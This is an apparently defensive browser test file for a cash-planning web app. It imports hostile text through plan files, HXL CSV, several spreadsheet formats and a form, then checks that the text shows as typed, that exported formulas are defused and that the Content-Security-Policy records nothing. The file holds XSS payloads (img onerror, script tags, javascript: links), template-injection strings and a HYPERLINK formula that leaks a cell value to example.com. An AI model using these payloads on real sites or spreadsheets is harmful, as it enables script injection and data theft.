// Nothing injected: text made to attack the page (`<img onerror>`, `<script>`, `javascript:`,
// template syntax, formulas, right-to-left overrides) in every free-text field of every
// record kind — the plan and files tests/injection.rs builds from the record registry — goes
// in through a plan file, HXL CSV, the spreadsheet importer (CSV, xlsx, xlsb, ods, xls) and
// the activity form, and every page shows it as typed: no dialog opens, no element is made from it, the
// Content-Security-Policy has nothing to block (the harness fails the file on a violation)
// and the CSV exports keep formulas defused.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { serveApp, launchBrowser, openApp, waitSaved, root, confirmHxlImport } from './harness.mjs';
import { openTab } from './plans-steps.mjs';

const DIR = join(root, 'tests', 'fixtures', 'injection');
const IMG = '<img src=x onerror=alert(1)>';
const SCRIPT = "<script>alert('cashplan')</script></td></tr><b>bold</b>";
const TEMPLATE = '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}';
const FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Click")';
const TABLES = [['Activities', 'activities-table'], ['Areas', 'areas-table'], ['Sectors', 'sectors-table'],
  ['Organisations', 'organisations-table'], ['Standards', 'standards-table']];

let server, browser;
before(async () => { server = await serveApp(); browser = await launchBrowser(); });
after(async () => { await browser?.close(); await server?.stop(); });

/** Fails if anything in the page was made from the hostile text or a dialog opened. */
async function assertNothingInjected(page, dialogs, where) {
  const made = await page.evaluate(() => ({
    images: [...document.images].filter((img) => img.getAttribute('src') === 'x').length,
    bold: [...document.querySelectorAll('b')].filter((b) => b.textContent === 'bold' || b.textContent === 'test').length,
    scripts: [...document.scripts].filter((s) => s.textContent.includes('cashplan')).length,
    links: [...document.querySelectorAll('a[href]')].filter((a) => a.getAttribute('href').trim().toLowerCase().startsWith('javascript:')).length,
  }));
  assert.deepEqual(made, { images: 0, bold: 0, scripts: 0, links: 0 }, `${where}: elements made from imported text`);
  assert.deepEqual(dialogs, [], `${where}: a dialog opened`);
}

/** Searches a Data table and returns the text of its rows. */
async function rowsMatching(page, table, id, search) {
  await page.getByRole('tab', { name: new RegExp(`^${table}`) }).click();
  const box = page.locator(`#${id}-search`);
  await box.fill(search);
  await page.locator(`#${id} tbody tr[data-id]`).first().waitFor();
  return page.locator(`#${id} tbody tr[data-id]`).allInnerTexts();
}

test('hostile text in every field shows as typed on every page and runs nowhere', async () => {
  const page = await openApp(browser.context, server.url);
  const dialogs = [];
  page.on('dialog', (dialog) => { dialogs.push(dialog.message()); dialog.dismiss().catch(() => {}); });

  // A plan file with hostile text in every free-text field of every kind.
  await page.locator('#import-plan-file').setInputFiles(join(DIR, 'hostile.cashplan.json'));
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  await assertNothingInjected(page, dialogs, 'home, with the plan "Injection <b>test</b>"');
  assert.ok((await page.locator('.plans').innerText()).includes('Injection <b>test</b>'), 'the plan name shows as typed');
  await page.getByRole('button', { name: 'Open Injection <b>test</b>' }).click();

  await openTab(page, 'Overview');
  await page.locator('#gap-matrix').waitFor();
  await assertNothingInjected(page, dialogs, 'Overview');
  await openTab(page, 'Data');
  for (const [table, id] of TABLES) {
    for (const text of [IMG, SCRIPT, TEMPLATE]) {
      const rows = await rowsMatching(page, table, id, text.slice(0, 12));
      assert.ok(rows.some((row) => row.includes(text)), `Data, ${table}: "${text}" shown as typed in ${rows.join(' | ').slice(0, 300)}`);
    }
    await assertNothingInjected(page, dialogs, `Data, ${table}`);
  }
  for (const name of ['Import', 'Harmonisation', 'Map']) {
    await openTab(page, name);
    await assertNothingInjected(page, dialogs, name);
  }

  // The activities as CSV: the formula text is there, defused.
  await openTab(page, 'Import');
  const [csv] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'activities', exact: true }).click()]);
  const text = readFileSync(await csv.path(), 'utf8');
  assert.ok(text.includes(`"'${FORMULA.replaceAll('"', '""')}"`), 'the formula text is exported with its apostrophe');
  assert.ok(!/(^|,)"?[=+@]/m.test(text.split('\n').slice(2).join('\n')), 'no exported cell starts like a formula');

  // The same text through HXL CSV into a new plan, then through the spreadsheet importer.
  await page.getByRole('button', { name: 'All plans' }).click();
  await page.getByLabel('Plan name').fill('Hostile files');
  await page.getByLabel('Country (ISO3)').fill('SYR');
  await page.getByRole('button', { name: 'Create plan' }).click();
  await openTab(page, 'Import');
  const files = ['areas', 'needs', 'activities', 'standards', 'meb', 'rates'].map((name) => join(DIR, `hostile-${name}.csv`));
  await page.locator('#import-hxl-files').setInputFiles(files);
  await page.locator('#import-hxl-preview').waitFor();
  await assertNothingInjected(page, dialogs, 'the HXL import preview');
  await confirmHxlImport(page);
  await waitSaved(page);
  await openTab(page, 'Data');
  const imported = await rowsMatching(page, 'Areas', 'areas-table', IMG.slice(0, 12));
  assert.ok(imported.some((row) => row.includes(IMG)), 'HXL: area names kept as typed');

  await openTab(page, 'Import');
  await page.locator('#sheet-file').setInputFiles({ name: 'partner.csv', mimeType: 'text/csv',
    buffer: Buffer.from(['Organisation,Sector,Area,What', '#org+prog,#sector,#adm1+code,#activity',
      `"${SCRIPT.replaceAll('"', '""')}",FSC,SY01,"${TEMPLATE}"`].join('\n')) });
  await page.locator('#sheet-mapping').waitFor();
  await assertNothingInjected(page, dialogs, 'the mapping screen');
  await page.getByRole('button', { name: 'Check the rows' }).click();
  await page.locator('#sheet-counts').waitFor();
  await assertNothingInjected(page, dialogs, 'the spreadsheet preview');
  await page.locator('#sheet-import').click();
  await page.getByText('Undo reverses the whole import').waitFor();
  await openTab(page, 'Data');
  const sheetRows = await rowsMatching(page, 'Activities', 'activities-table', 'bold');
  assert.ok(sheetRows.some((row) => row.includes(SCRIPT) && row.includes(TEMPLATE)), `spreadsheet: kept as typed: ${sheetRows}`);

  // And typed into the activity form.
  await page.getByLabel('Reporting organisation').fill(IMG);
  await page.locator('#activity-sector').selectOption('MPC');
  await page.locator('#activity-area').fill('SY01');
  await page.getByLabel('What (description)').fill('javascript:alert(document.domain)');
  await page.getByLabel('People targeted').fill('10');
  await page.getByRole('button', { name: 'Add activity' }).click();
  const typed = await rowsMatching(page, 'Activities', 'activities-table', 'javascript');
  assert.ok(typed.some((row) => row.includes(IMG) && row.includes('javascript:alert(document.domain)')), `form: kept as typed: ${typed}`);
  await assertNothingInjected(page, dialogs, 'after the form');

  // The same hostile rows from every other spreadsheet format the importer reads
  // (tests/injection.rs writes and checks the files; the .xls comes from make-xls.py).
  for (const format of ['xlsx', 'xlsb', 'ods', 'xls']) {
    await openTab(page, 'Import');
    await page.locator('#sheet-file').setInputFiles(join(DIR, `hostile-sheet.${format}`));
    await page.locator('#sheet-mapping').waitFor();
    await assertNothingInjected(page, dialogs, `the mapping screen (.${format})`);
    await page.getByRole('button', { name: 'Check the rows' }).click();
    await page.locator('#sheet-counts').waitFor();
    await assertNothingInjected(page, dialogs, `the spreadsheet preview (.${format})`);
    await page.locator('#sheet-import').click();
    await openTab(page, 'Data');
    const rows = await rowsMatching(page, 'Activities', 'activities-table', `[${format}]`);
    for (const text of [IMG, SCRIPT, TEMPLATE, FORMULA, 'javascript:alert(document.domain)']) {
      assert.ok(rows.some((row) => row.includes(text) && row.includes(`${text} [${format}]`)),
        `.${format}: ${text} kept as typed: ${rows.map((row) => row.slice(0, 200))}`);
    }
    await assertNothingInjected(page, dialogs, `the Data page after the .${format} import`);
  }
  await waitSaved(page);
  assert.deepEqual(browser.cspViolations, [], 'the Content-Security-Policy had nothing to block');
});
